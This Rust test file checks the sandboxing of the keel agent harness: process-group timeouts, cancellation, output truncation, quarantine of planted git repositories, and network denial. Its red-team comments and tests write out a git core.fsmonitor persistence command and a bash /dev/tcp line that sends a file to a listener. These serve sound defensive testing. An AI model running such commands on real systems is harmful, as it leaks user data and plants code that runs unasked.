//! The harness's own commands (verification gates, phase validation and rollback, flow and
//! `keel work` steps) run through `keel_tools::shell::harness`: confined like the model's
//! commands, with a timeout and cancellation that end the whole process group, bounded output,
//! no network unless approved, and a planted repository quarantined.

use std::time::{Duration, Instant};

use keel_tools::shell::ShellSettings;
use keel_tools::shell::harness::{CommandSpec, run_command_with_timeout};
use tokio_util::sync::CancellationToken;

fn spec(cmd: &str, dir: &std::path::Path, timeout_ms: u64) -> CommandSpec {
    CommandSpec::shell(cmd, dir, Duration::from_millis(timeout_ms))
}

#[tokio::test]
async fn captures_output_exit_code_and_cwd() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(dir.path().join("marker.txt"), "here").unwrap_or_else(|e| panic!("{e}"));
    let out = run_command_with_timeout(
        &spec("cat marker.txt; echo oops >&2; exit 3", dir.path(), 10_000),
        &CancellationToken::new(),
    )
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.exit_code, Some(3));
    assert!(!out.success());
    assert_eq!(out.stdout, "here");
    assert_eq!(out.stderr.trim(), "oops");
    assert_eq!(out.combined(), "here\noops");
    assert_eq!(out.status_line(Duration::from_secs(1)), "exit code 3");
}

/// `true` once no live (non-zombie) process has `marker` in its command line. The
/// command runs in its own PID namespace, so the pids it sees mean nothing here.
#[cfg(target_os = "linux")]
fn dead(marker: &str) -> bool {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return true;
    };
    !entries.flatten().any(|e| {
        let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        let stat = std::fs::read_to_string(e.path().join("stat")).unwrap_or_default();
        String::from_utf8_lossy(&cmdline).contains(marker)
            && !stat
                .rsplit(')')
                .next()
                .is_some_and(|rest| rest.trim_start().starts_with('Z'))
    })
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn timeout_kills_the_whole_process_group() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let started = Instant::now();
    let bg = format!("keel-gate-bg-{}", std::process::id());
    let out = run_command_with_timeout(
        &spec(
            &format!("(exec -a {bg} sleep 30) & echo started; wait"),
            dir.path(),
            300,
        ),
        &CancellationToken::new(),
    )
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(out.timed_out);
    assert!(!out.success());
    assert_eq!(out.exit_code, None);
    assert_eq!(out.stdout.trim(), "started");
    let deadline = Instant::now() + Duration::from_secs(5);
    while !dead(&bg) {
        assert!(
            Instant::now() < deadline,
            "the background child outlived the command"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn cancellation_stops_the_command() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cancel = CancellationToken::new();
    let c = cancel.clone();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(100)).await;
        c.cancel();
    });
    let started = Instant::now();
    let out = run_command_with_timeout(&spec("sleep 30", dir.path(), 60_000), &cancel)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(out.cancelled);
    assert_eq!(out.status_line(Duration::from_secs(1)), "cancelled");
}

#[tokio::test]
async fn huge_output_keeps_head_and_tail() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let mut s = spec("echo FIRST; seq 1 100000; echo LAST", dir.path(), 20_000);
    s.max_output_bytes = 1_000;
    let out = run_command_with_timeout(&s, &CancellationToken::new())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(out.success());
    assert!(out.stdout.starts_with("FIRST"));
    assert!(out.stdout.trim_end().ends_with("LAST"));
    assert!(out.stdout.contains("omitted"), "{}", out.stdout);
    assert!(out.stdout.len() < 1_200);
}

#[tokio::test]
async fn a_missing_directory_is_a_spawn_error() {
    let e = run_command_with_timeout(
        &spec("true", std::path::Path::new("/nonexistent/keel"), 1_000),
        &CancellationToken::new(),
    )
    .await
    .err()
    .map(|e| e.to_string())
    .unwrap_or_default();
    assert!(e.contains("cannot start `true`"), "{e}");
}

#[tokio::test]
async fn a_gate_that_plants_a_git_repository_gets_it_quarantined_and_reported() {
    // Red-team pass 4, R4-2: the final tests gate ran `git init -q . && git config
    // core.fsmonitor …` in a workspace without `.git`; the user's next `git status` ran it.
    if keel_tools::shell::exec::find_program("git").is_none() {
        assert!(std::env::var_os("CI").is_none(), "CI needs git on PATH");
        println!("SKIPPED: git is not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let out = run_command_with_timeout(
        &spec(
            "git init -q . && git config core.fsmonitor 'touch pwned; false'",
            dir.path(),
            30_000,
        ),
        &CancellationToken::new(),
    )
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    assert!(out.success(), "{}", out.combined());
    assert!(out.stderr.contains("core.fsmonitor"), "{}", out.stderr);
    assert!(!dir.path().join(".git").exists(), "still in git's sight");
}

/// Red-team pass 4, R4-10: with `shell.network = true`, a detected gate ran a shipped
/// `build.rs` that posted the workspace to a listener. A command the harness starts on its
/// own gets no network; one the approval policy judged (or the user configured) keeps the
/// user's setting — the control.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_command_keel_starts_on_its_own_has_no_network() {
    let s = keel_tools::sandbox::support();
    if !(s.mount_namespace.is_ok() && s.isolation.processes) {
        assert!(std::env::var_os("CI").is_none(), "CI needs namespaces");
        println!("SKIPPED: no namespaces for commands");
        return;
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(dir.path().join("README.md"), "PROJECT-NOTES\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    listener
        .set_nonblocking(true)
        .unwrap_or_else(|e| panic!("{e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    let shell = ShellSettings {
        network: true,
        ..ShellSettings::default()
    };
    let post = format!("bash -c 'cat README.md > /dev/tcp/127.0.0.1/{port}'");
    let reached = |l: &std::net::TcpListener| {
        (0..25).any(|_| {
            if l.accept().is_ok() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
            false
        })
    };
    let mut spec = spec(&post, dir.path(), 10_000).with_shell(&shell);
    let out = run_command_with_timeout(&spec, &CancellationToken::new())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        !reached(&listener),
        "an unapproved command reached the network: {}",
        out.combined()
    );
    spec.network = true;
    let out = run_command_with_timeout(&spec, &CancellationToken::new())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        reached(&listener),
        "the approved control never connected: {}",
        out.combined()
    );
}
